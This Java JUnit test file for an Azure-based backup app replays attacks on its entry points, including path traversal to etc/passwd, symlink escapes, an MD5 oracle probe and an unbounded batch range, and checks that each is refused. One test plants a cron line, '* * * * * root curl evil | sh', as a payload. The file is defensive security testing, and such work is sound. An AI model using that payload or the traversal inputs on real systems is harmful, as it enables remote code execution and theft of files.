package com.contoso.sitebackup.security;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.contoso.sitebackup.backup.BackupJob;
import com.contoso.sitebackup.backup.CopyEntry;
import com.contoso.sitebackup.backup.CopyFileToBlob;
import com.contoso.sitebackup.config.AppServices;
import com.contoso.sitebackup.durable.BatchGroup;
import com.contoso.sitebackup.durable.BatchOutcome;
import com.contoso.sitebackup.durable.BatchWork;
import com.contoso.sitebackup.durable.CodeVersion;
import com.contoso.sitebackup.durable.FanOut;
import com.contoso.sitebackup.durable.FanOutSummary;
import com.contoso.sitebackup.durable.GroupRequest;
import com.contoso.sitebackup.durable.ManifestStore;
import com.contoso.sitebackup.durable.TestManifests;
import com.contoso.sitebackup.durable.Wire;
import com.contoso.sitebackup.fs.EntryType;
import com.contoso.sitebackup.fs.FileEntry;
import com.contoso.sitebackup.fs.PathCodec;
import com.contoso.sitebackup.fs.SecureDirectory;
import com.contoso.sitebackup.fs.SecureRoots;
import com.contoso.sitebackup.harness.BackupApp;
import com.contoso.sitebackup.harness.DurableHarness;
import com.contoso.sitebackup.harness.HarnessResult;
import com.contoso.sitebackup.restore.RestoreBlobToFile;
import com.contoso.sitebackup.restore.RestoreJob;
import com.contoso.sitebackup.testing.Azurite;
import com.contoso.sitebackup.testing.AzuriteTest;
import com.contoso.sitebackup.verify.CheckFileContent;
import com.contoso.sitebackup.verify.VerifyJob;

import com.azure.core.util.BinaryData;
import com.azure.storage.blob.BlobContainerClient;
import com.azure.storage.blob.BlobServiceClient;
import com.azure.storage.blob.models.BlobItem;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.Base64;
import java.util.List;
import java.util.UUID;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 10, item 1 (and issue 23, item 3): activities and orchestrators trusted their input, reachable with the system key through
 * the extension's own webhook ({@code POST /runtime/webhooks/durabletask/orchestrators/{name}} with any input). Each
 * attack of the issue is replayed here against the app's own functions, built from its composition root with one
 * allowed root, on real temp trees and Azurite: nothing outside the root is read, hashed or written (counts
 * printed). The inputs are also fed to the primitives every file access goes through.
 */
@AzuriteTest
class EntryPointsAttackTest {
    @TempDir
    Path tmp;

    private final BlobServiceClient blobs = Azurite.shared().client();
    private Path root;
    private Path outside;
    private SecureRoots readRoots;
    private SecureRoots writeRoots;
    private AppServices services;
    private BlobContainerClient container;

    @BeforeEach
    void setUp() throws IOException {
        root = Files.createDirectories(tmp.resolve("root")).toRealPath();
        Files.createDirectories(root.resolve("site"));
        outside = Files.createDirectories(tmp.resolve("outside")).toRealPath();
        Files.writeString(outside.resolve("secret.txt"), "OUTSIDE SECRET");
        readRoots = SecureRoots.forReading("BACKUP_READ_ROOTS", List.of(root));
        writeRoots = SecureRoots.forWriting("BACKUP_WRITE_ROOTS", List.of(root), List.of());
        services = BackupApp.services(blobs, root, 500);
        container = blobs.getBlobContainerClient("attack-" + UUID.randomUUID().toString().substring(0, 8));
        container.create();
    }

    private DurableHarness harness() {
        return BackupApp.harness(blobs, root, 500, DurableHarness.Faults.none());
    }

    private List<String> uploaded() {
        return container.listBlobs().stream().map(BlobItem::getName).toList();
    }

    private ManifestStore manifests() {
        return new ManifestStore(blobs, BackupApp.MANIFEST_CONTAINER, 500);
    }

    /** A manifest planted with {@code card} and {@code entries}: what a forged orchestration input could name. */
    private String planted(Object card, List<?> entries) {
        return TestManifests.writeOneBatch(manifests(), card, entries);
    }

    private static String work(String manifest) {
        return Wire.write(new BatchWork(CodeVersion.CURRENT, manifest, BatchWork.whole(0, 1), 1, false));
    }

    private FanOutSummary group(String activity, String manifest) {
        HarnessResult result = harness().run(BatchGroup.NAME, new GroupRequest(CodeVersion.CURRENT, activity,
                manifest, 0, 1));
        return Wire.read(result.output(), FanOutSummary.class, "the group's output");
    }

    /** A {@code BatchGroup} of copies whose card names a root outside the roots: every copy refused, nothing uploaded. */
    @Test
    void batchGroup_rootOutsideTheRoots_everyCopyRefusedNothingUploaded() {
        String manifest = planted(new BackupJob(outside.toString(), container.getBlobContainerName(), "stolen", null,
                null), List.of(new CopyEntry("secret.txt", 14, 0, EntryType.FILE, null)));

        FanOutSummary summary = group(CopyFileToBlob.NAME, manifest);

        assertEquals(0, summary.filesDone());
        assertEquals(1, summary.problemCount());
        assertTrue(summary.problems().get(0).getReason().startsWith("refused: rootDirectory '" + outside
                + "' is not a directory this app may read"), summary.problems().toString());
        assertEquals(List.of(), uploaded());
        System.out.println("BatchGroup outside the roots: " + summary.problemCount() + " copy refused, 0 uploaded");
    }

    /** A card with {@code root=/} and entries naming {@code etc/passwd}: nothing uploaded. */
    @Test
    void batchGroup_rootOfTheFileSystemWithAPlantedManifest_nothingUploaded() {
        String secretFromTheTop = PathCodec.encode(outside.resolve("secret.txt").toString().substring(1));
        String manifest = planted(new BackupJob("/", container.getBlobContainerName(), "x", null, null),
                List.of(new CopyEntry("etc/passwd", 100, 0, EntryType.FILE, null),
                        new CopyEntry(secretFromTheTop, 14, 0, EntryType.FILE, null)));

        FanOutSummary summary = group(CopyFileToBlob.NAME, manifest);

        assertEquals(0, summary.filesDone());
        assertEquals(2, summary.problemCount());
        assertEquals(List.of(), uploaded());
    }

    /** Issue 23, item 3: a group of 2,147,483,647 batches through Durable's HTTP API is refused at once. */
    @Test
    void batchGroup_unboundedRange_refusedWithoutSchedulingAnything() {
        String manifest = planted(new BackupJob(root.toString(), container.getBlobContainerName(), "x", null, null),
                List.of());
        java.util.Map<String, Object> forged = java.util.Map.of("codeVersion", CodeVersion.CURRENT,
                "activity", CopyFileToBlob.NAME, "manifest", manifest, "from", 0, "to", Integer.MAX_VALUE);

        HarnessResult result = harness().run(BatchGroup.NAME, forged);

        assertEquals(0, result.metrics().activityExecutions(), result.metrics().summary());
        FanOutSummary summary = Wire.read(result.output(), FanOutSummary.class, "output");
        assertTrue(summary.failures().get(0).getReason().contains("a group runs 1 to " + FanOut.GROUP_BATCHES
                + " batches"), summary.failures().toString());
        System.out.println("BatchGroup from 0 to 2147483647: " + result.metrics().activityExecutions()
                + " activities scheduled");
    }

    /** {@code CopyFileToBlob} on cards naming {@code /etc}, a link outside, or a path leading up: refused. */
    @Test
    void copyFileToBlob_etcPasswdOrALinkOutside_refusedNothingUploaded() throws IOException {
        Files.createSymbolicLink(root.resolve("site/out"), outside);
        CopyFileToBlob copy = new CopyFileToBlob(services);
        String name = container.getBlobContainerName();

        List<BatchOutcome> outcomes = List.of(
                run(copy, new BackupJob("/etc", name, "x", null, null), "passwd"),
                run(copy, new BackupJob(root.resolve("site").toString(), name, "x", null, null), "out/secret.txt"),
                run(copy, new BackupJob(root.resolve("site").toString(), name, "x", null, null),
                        "../../outside/secret.txt"),
                run(copy, new BackupJob(root.resolve("site/out").toString(), name, "x", null, null), "secret.txt"));

        outcomes.forEach(o -> assertTrue(o.filesDone() == 0 && o.problemCount() == 1, o.toString()));
        assertEquals(List.of(), uploaded());
    }

    private BatchOutcome run(CopyFileToBlob copy, BackupJob job, String path) {
        String manifest = planted(job, List.of(new CopyEntry(path, 1, 0, EntryType.FILE, null)));
        return Wire.read(copy.run(work(manifest)), BatchOutcome.class, "outcome");
    }

    /** {@code RestoreBlobToFile} whose card targets an outside {@code etc/cron.d}: nothing written there. */
    @Test
    void restoreBlobToFile_intoAnOutsideCronFolder_nothingWritten() throws IOException {
        Path cron = Files.createDirectories(outside.resolve("etc/cron.d"));
        container.getBlobClient("job/evil").upload(BinaryData.fromString("* * * * * root curl evil | sh"));
        String manifest = planted(new RestoreJob(cron.toString(), container.getBlobContainerName(), "job",
                "20261206T000000.000Z", true, null), List.of(new FileEntry("evil", 30, 0, null, EntryType.FILE, null,
                0644, null, null, null, "20261206T000000.000Z", null)));

        FanOutSummary grouped = group(RestoreBlobToFile.NAME, manifest);
        BatchOutcome direct = Wire.read(new RestoreBlobToFile(services).run(work(manifest)), BatchOutcome.class, "o");

        assertEquals(0, grouped.filesDone());
        assertEquals(1, grouped.problemCount());
        assertTrue(direct.problems().get(0).getReason().startsWith("refused: targetDirectory"),
                direct.problems().toString());
        try (Stream<Path> written = Files.list(cron)) {
            assertEquals(List.of(), written.toList());
        }
    }

    /** {@code CheckFileContent} answered MD5 questions about any file: outside the roots it answers nothing. */
    @Test
    void checkFileContent_fileOutsideTheRoots_noAnswerEitherWay() throws Exception {
        CheckFileContent check = new CheckFileContent(services);
        String right = Base64.getEncoder().encodeToString(MessageDigest.getInstance("MD5")
                .digest("OUTSIDE SECRET".getBytes()));
        String wrong = Base64.getEncoder().encodeToString(new byte[16]);
        VerifyJob job = new VerifyJob(outside.toString(), null);

        BatchOutcome guessedRight = Wire.read(check.run(work(planted(job, List.of(new FileEntry("secret.txt", 14, 0,
                right))))), BatchOutcome.class, "o");
        BatchOutcome guessedWrong = Wire.read(check.run(work(planted(job, List.of(new FileEntry("secret.txt", 14, 0,
                wrong))))), BatchOutcome.class, "o");

        assertEquals(guessedRight.problems(), guessedWrong.problems());
        assertTrue(guessedRight.problems().get(0).getReason().startsWith("refused: "), guessedRight.toString());
    }

    @Test
    void open_sliceOrCopyWithARootOutside_refused() {
        for (String directory : List.of("/", "/etc", "/home", tmp.toString())) {
            assertThrows(IllegalArgumentException.class, () -> readRoots.open("rootDirectory", directory), directory);
        }
    }

    @Test
    void decodePath_plantedManifestNameLeadingUp_refusedBeforeAnyFileIsTouched() throws IOException {
        try (SecureDirectory site = readRoots.open("rootDirectory", root.resolve("site").toString())) {
            for (String planted : List.of("../../etc/passwd", "..", "a/../../b", "/etc/passwd")) {
                assertThrows(IllegalArgumentException.class, () -> PathCodec.decodePath(planted), planted);
                assertThrows(IllegalArgumentException.class, () -> site.openDirectories(Path.of(planted).getParent() == null
                        ? Path.of(planted) : Path.of(planted).getParent()), planted);
            }
        }
    }

    @Test
    void openOrCreate_restoreSliceIntoAnOutsideCronFolder_refusedAndNothingCreated() throws IOException {
        Path cron = Files.createDirectories(tmp.resolve("etc/cron.d"));
        assertThrows(IllegalArgumentException.class, () -> writeRoots.openOrCreate("targetDirectory", cron.toString()));
        assertThrows(IllegalArgumentException.class,
                () -> writeRoots.openOrCreate("targetDirectory", cron.resolve("new").toString()));
        assertEquals(List.of(), Files.list(cron).toList());
    }
}
